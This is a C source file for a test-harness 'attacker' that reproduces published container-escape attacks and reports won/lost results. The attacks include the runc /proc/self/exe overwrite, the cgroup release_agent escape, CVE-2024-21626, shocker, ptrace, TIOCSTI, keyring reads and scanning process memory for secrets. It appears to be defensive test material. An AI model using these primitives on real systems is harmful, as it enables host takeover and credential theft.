/* The attacker: a static program that does, inside a container, what published attacks on container runtimes did.
 *
 *     attack COMMAND [ARGUMENT…]
 *
 * It prints a line for each thing it tried: "won WHAT", or "lost WHAT ERRNO". The commands are in the table at the end.
 * Everything it writes, were it to succeed, is harmless to the host or undone by the test. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int tell(const char *what, int won)
{
    if (won)
        printf("won %s\n", what);
    else
        printf("lost %s %s\n", what, strerrorname_np(errno));
    fflush(stdout);
    return won;
}

static int write_to(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, text, strlen(text));
    int error = errno;
    close(fd);
    errno = error;
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* --- files ----------------------------------------------------------------------------------------------------- */

static void cmd_write(char **argv)
{
    tell(argv[0], write_to(argv[0], argv[1]) == 0);
}

static void cmd_read(char **argv)
{
    char text[4096];
    for (; *argv; argv++) {
        int fd = open(*argv, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        tell(*argv, fd >= 0 && read(fd, text, sizeof text) > 0);
        if (fd >= 0)
            close(fd);
    }
}

/* What this process may, as the kernel sees it. */
static void cmd_capabilities(char **argv)
{
    (void)argv;
    char line[256];
    FILE *file = fopen("/proc/self/status", "re");
    while (file && fgets(line, sizeof line, file))
        if (strncmp(line, "Cap", 3) == 0)
            fputs(line, stdout);
}

/* Exchange two names for ever: the other half of a race. */
static void cmd_swap(char **argv)
{
    for (;;)
        if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
            sched_yield();
}

/* A node of the host's, wherever one can be made. */
static void cmd_node(char **argv)
{
    static const char *const places[] = {"/", "/tmp", "/dev", "/dev/shm", "/dev/pts", "/dev/mqueue", "/run", "/proc"};
    mode_t type = argv[0][0] == 'b' ? S_IFBLK : S_IFCHR;
    dev_t number = makedev((unsigned)atoi(argv[1]), (unsigned)atoi(argv[2]));
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        char path[300];
        snprintf(path, sizeof path, "%s/attack-node", places[i]);
        if (mknod(path, type | 0600, number) < 0) {
            tell(places[i], 0);
            continue;
        }
        /* Where the mount does not let devices be opened, try to change that. */
        mount(NULL, places[i], NULL, MS_REMOUNT | MS_BIND, NULL);
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        tell(places[i], fd >= 0);
        close(fd);
        unlink(path);
    }
}

/* shocker: a file by the number of its inode, whatever the root directory is. */
static void cmd_shocker(char **argv)
{
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle = {.head = {.handle_bytes = (unsigned)strlen(argv[1]) / 2, .handle_type = atoi(argv[0])}};
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        sscanf(argv[1] + 2 * i, "%2hhx", &handle.bytes[i]);
    int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    tell("open_by_handle_at", open_by_handle_at(mount, &handle.head, O_RDONLY) >= 0);
}

/* --- processes ------------------------------------------------------------------------------------------------- */

static struct {
    int held[256], held_count;
    uint64_t most_capabilities;
    unsigned long looks, strangers;
} seen;

/* Whether a link to a program leads to another than those of the container: that of its runtime. */
static int is_launcher(const char *link)
{
    char target[256];
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n < 0)
        return 0;
    target[n] = 0;
    return !strstr(target, "busybox") && !strstr(target, "/attack");
}

/* Whether a directory of another process's leads to the witness, a file of the host's. */
static int leads_out(int directory, const char *witness)
{
    char path[4096] = "../../../../../../../..";
    strcat(path, witness);
    return faccessat(directory, path, F_OK, 0) == 0;
}

/* Each achievement once: who started us reads what we print at the end, and a full pipe would stop us. */
static void achieve(const char *what)
{
    static const char *achieved[8];
    for (size_t i = 0; i < sizeof achieved / sizeof *achieved; i++) {
        if (!achieved[i]) {
            achieved[i] = what;
            tell(what, 1);
        }
        if (strcmp(achieved[i], what) == 0)
            return;
    }
}

static void try_directory(const char *pid, const char *what, const char *witness)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    if (leads_out(fd, witness))
        achieve("a directory of the host's");
    close(fd);
}

/* Where we are: CVE-2024-21626. */
static void cmd_reach(char **argv)
{
    tell("the host from here", leads_out(AT_FDCWD, argv[0]));
}

static void look_at_capabilities(const char *pid)
{
    char path[300], line[256];
    unsigned long long mask;
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *file = fopen(path, "re");
    while (file && fgets(line, sizeof line, file))
        if (sscanf(line, "CapPrm: %llx", &mask) == 1)
            seen.most_capabilities |= mask;
    if (file)
        fclose(file);
}

/* What is open for writing cannot be executed (ETXTBSY), whether or not it can be written to. */
static void occupy(void)
{
    static int occupied;
    for (int i = 0; i < seen.held_count && occupied < 64; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", seen.held[i]);
        if (open(path, O_WRONLY | O_CLOEXEC) >= 0 && ++occupied)
            achieve("occupy");
    }
}

static void look_at(const char *pid, const char *witness)
{
    char path[300];
    seen.looks++;
    look_at_capabilities(pid);
    try_directory(pid, "root", witness);
    try_directory(pid, "cwd", witness);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *directory = opendir(path);
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        char name[32];
        snprintf(name, sizeof name, "fd/%.20s", entry->d_name);
        if (isdigit(entry->d_name[0]))
            try_directory(pid, name, witness);
    }
    if (directory)
        closedir(directory);
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (!is_launcher(path))
        return;
    seen.strangers++;
    int exe = open(path, O_RDONLY | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    if (exe >= 0 && seen.held_count < 256 && is_launcher(path)) { /* it may have executed the command meanwhile */
        seen.held[seen.held_count++] = exe;
        if (fchmod(exe, 0) == 0)
            achieve("disable"); /* for all others who would execute it */
    } else if (exe >= 0)
        close(exe);
    if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
        achieve("trace");
        ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0); /* only what is stopped can be let go */
        waitpid(atoi(pid), NULL, __WALL);
        ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
    }
}

/* Lie in wait for processes that join, until stdin ends: CVE-2016-9962, CVE-2016-8649, CVE-2019-5736. */
static void cmd_watch(char **argv)
{
    struct pollfd input = {.fd = 0, .events = POLLIN};
    char own[16];
    snprintf(own, sizeof own, "%d", (int)getpid());
    printf("watching\n");
    fflush(stdout);
    while (poll(&input, 1, 0) == 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));)
            if (isdigit(entry->d_name[0]) && strcmp(entry->d_name, own) != 0)
                look_at(entry->d_name, argv[0]);
        if (proc)
            closedir(proc);
        occupy();
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
            ;
    }
    /* They have gone: what was executed can be written to now, if it is a file. */
    for (int i = 0; i < seen.held_count; i++) {
        char path[300];
        snprintf(path, sizeof path, "/proc/self/fd/%d", seen.held[i]);
        if (write_to(path, "#!/owned\n") == 0)
            achieve("overwrite");
    }
    printf("looks %lu strangers %lu held %d capabilities %llx\n", seen.looks, seen.strangers, seen.held_count,
           (unsigned long long)seen.most_capabilities);
}

/* Whether a text, given as the hex of its bytes XOR 0x55 so that it is not in our own memory, is in a file. */
static int contains(const char *path, const unsigned char *code, size_t length, off_t at, off_t end)
{
    static unsigned char block[1 << 16];
    int fd = open(path, O_RDONLY | O_CLOEXEC), found = 0;
    if (fd < 0)
        return 0;
    for (size_t keep = 0; at < end && !found;) {
        size_t room = sizeof block - keep;
        ssize_t n = pread(fd, block + keep, end - at < (off_t)room ? (size_t)(end - at) : room, at);
        if (n <= 0)
            break;
        at += n;
        size_t size = keep + (size_t)n;
        for (size_t i = 0; i + length <= size && !found; i++) {
            size_t same = 0;
            while (same < length && (block[i + same] ^ 0x55) == code[same])
                same++;
            found = same == length;
        }
        keep = size < length ? size : length;
        memmove(block, block + size - keep, keep);
    }
    memset(block, 0, sizeof block);
    close(fd);
    return found;
}

/* Look for a secret of the caller's in all that can be read of every process. */
static void cmd_scan(char **argv)
{
    unsigned char code[64];
    size_t length = strlen(argv[0]) / 2;
    for (size_t i = 0; i < length; i++)
        sscanf(argv[0] + 2 * i, "%2hhx", &code[i]);
    static const char *const files[] = {"environ", "cmdline", "auxv", "stack", "status", "mountinfo"};
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (!isdigit(entry->d_name[0]))
            continue;
        char path[300], line[512];
        for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, files[i]);
            if (contains(path, code, length, 0, 1 << 24))
                tell(files[i], 1);
        }
        snprintf(path, sizeof path, "/proc/%s/maps", entry->d_name);
        FILE *maps = fopen(path, "re");
        snprintf(path, sizeof path, "/proc/%s/mem", entry->d_name);
        unsigned long from, to;
        while (maps && fgets(line, sizeof line, maps))
            if (sscanf(line, "%lx-%lx r", &from, &to) == 2 && to <= INT64_MAX && !strstr(line, "[vsyscall]"))
                if (contains(path, code, length, (off_t)from, (off_t)to))
                    tell("memory", 1);
        if (maps)
            fclose(maps);
    }
    printf("scanned\n");
}

/* --- namespaces ------------------------------------------------------------------------------------------------ */

static int gain(void)
{
    char map[64];
    unsigned uid = geteuid(), gid = getegid();
    if (unshare(CLONE_NEWUSER) < 0)
        return -1;
    write_to("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    write_to("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", gid);
    write_to("/proc/self/gid_map", map);
    return 0;
}

/* All capabilities again, in a user namespace of one's own, and what can be done with them. */
static void cmd_userns(char **argv)
{
    (void)argv;
    if (!tell("unshare(CLONE_NEWUSER)", gain() == 0))
        return;
    tell("unshare(CLONE_NEWNS)", unshare(CLONE_NEWNS | CLONE_NEWCGROUP | CLONE_NEWPID) == 0);
    pid_t child = fork();
    if (child == 0) {
        mkdir("/tmp/p", 0700);
        tell("mount proc", mount("proc", "/tmp/p", "proc", 0, NULL) == 0);
        tell("mount sysfs", mount("sysfs", "/tmp/p", "sysfs", 0, NULL) == 0);
        if (umount("/proc/keys") == 0 || umount2("/proc/sys", MNT_DETACH) == 0)
            tell("unmask", 1);
        tell("mount tmpfs", mount("tmpfs", "/tmp/p", "tmpfs", 0, NULL) == 0);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

/* CVE-2022-0492: have the kernel run a program of ours as root of the host, when a cgroup becomes empty. */
static void release_agent(const char *options, const char *agent, const char *how)
{
    char what[128];
    snprintf(what, sizeof what, "mount cgroup %s", how);
    mkdir("/tmp/cg", 0700);
    if (!tell(what, mount("cgroup", "/tmp/cg", "cgroup", 0, options) == 0))
        return;
    snprintf(what, sizeof what, "release_agent %s", how);
    if (tell(what, write_to("/tmp/cg/release_agent", agent) == 0)) {
        mkdir("/tmp/cg/attack", 0700);
        write_to("/tmp/cg/attack/notify_on_release", "1");
        pid_t child = fork();
        if (child == 0)
            _exit(write_to("/tmp/cg/attack/cgroup.procs", "0") < 0);
        waitpid(child, NULL, 0);
        while (rmdir("/tmp/cg/attack") < 0 && errno == EBUSY)
            sched_yield();
    }
    umount("/tmp/cg");
}

static void cmd_release_agent(char **argv)
{
    release_agent(argv[0], argv[1], "directly");
    if (tell("unshare(CLONE_NEWUSER)", gain() == 0) && unshare(CLONE_NEWNS | CLONE_NEWCGROUP) == 0)
        release_agent(argv[0], argv[1], "in a user namespace");
}

/* Raise one's own limit: mount the hierarchy anew, writable, and write. */
static void cmd_cgroup(char **argv)
{
    char path[256];
    for (int inside = 0; inside < 2; inside++) {
        if (inside && (!tell("unshare(CLONE_NEWUSER)", gain() == 0) || unshare(CLONE_NEWNS | CLONE_NEWCGROUP) < 0))
            return;
        mkdir("/tmp/cg", 0700);
        const char *type = argv[0][0] ? "cgroup" : "cgroup2";
        if (!tell("mount cgroup", mount(type, "/tmp/cg", type, 0, argv[0][0] ? argv[0] : NULL) == 0))
            continue;
        snprintf(path, sizeof path, "/tmp/cg/%s", argv[1]);
        tell("raise the limit", write_to(path, argv[2]) == 0);
        umount("/tmp/cg");
    }
}

/* --- terminal, keys, sockets, kernel log ----------------------------------------------------------------------- */

static void cmd_tiocsti(char **argv)
{
    ioctl(0, TIOCSCTTY, 0);
    for (const char *c = argv[0]; *c; c++)
        if (!tell("TIOCSTI", ioctl(0, TIOCSTI, c) == 0))
            return;
}

static void cmd_keyring(char **argv)
{
    static const struct {
        const char *name;
        int id;
    } rings[] = {{"thread", -1}, {"process", -2}, {"session", -3}, {"user", -4}, {"user session", -5}};
    for (size_t i = 0; i < sizeof rings / sizeof *rings; i++) {
        char text[256];
        long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, rings[i].id, "user", argv[0], 0);
        tell(rings[i].name, key >= 0 && syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, text, sizeof text) > 0);
    }
    char text[256];
    long key = strtol(argv[1], NULL, 10); /* by number, as /proc/keys of the host tells it */
    tell("number", syscall(SYS_keyctl, 11, key, text, sizeof text) > 0);
    tell("request_key", syscall(SYS_request_key, "user", argv[0], NULL, 0) >= 0);
}

static void cmd_abstract(char **argv)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, argv[0], sizeof address.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[0]));
    tell("connect", connect(fd, (struct sockaddr *)&address, length) == 0);
}

static void cmd_kmsg(char **argv)
{
    (void)argv;
    char text[256];
    tell("syslog(2)", klogctl(3 /* SYSLOG_ACTION_READ_ALL */, text, sizeof text) >= 0);
    tell("console level", klogctl(8 /* SYSLOG_ACTION_CONSOLE_LEVEL */, NULL, 7) >= 0);
    tell("/dev/kmsg", open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0);
    tell("/proc/kmsg", open("/proc/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0);
}

/* --------------------------------------------------------------------------------------------------------------- */

static const struct {
    const char *name;
    void (*run)(char **);
    int arguments;
} commands[] = {
    {"write", cmd_write, 2},
    {"read", cmd_read, 1},
    {"swap", cmd_swap, 2},
    {"capabilities", cmd_capabilities, 0},
    {"node", cmd_node, 3},
    {"shocker", cmd_shocker, 2},
    {"reach", cmd_reach, 1},
    {"watch", cmd_watch, 1},
    {"scan", cmd_scan, 1},
    {"userns", cmd_userns, 0},
    {"release-agent", cmd_release_agent, 2},
    {"cgroup", cmd_cgroup, 3},
    {"tiocsti", cmd_tiocsti, 1},
    {"keyring", cmd_keyring, 2},
    {"abstract", cmd_abstract, 1},
    {"kmsg", cmd_kmsg, 0},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof *commands; i++)
        if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].arguments) {
            commands[i].run(argv + 2);
            return 0;
        }
    return 2;
}
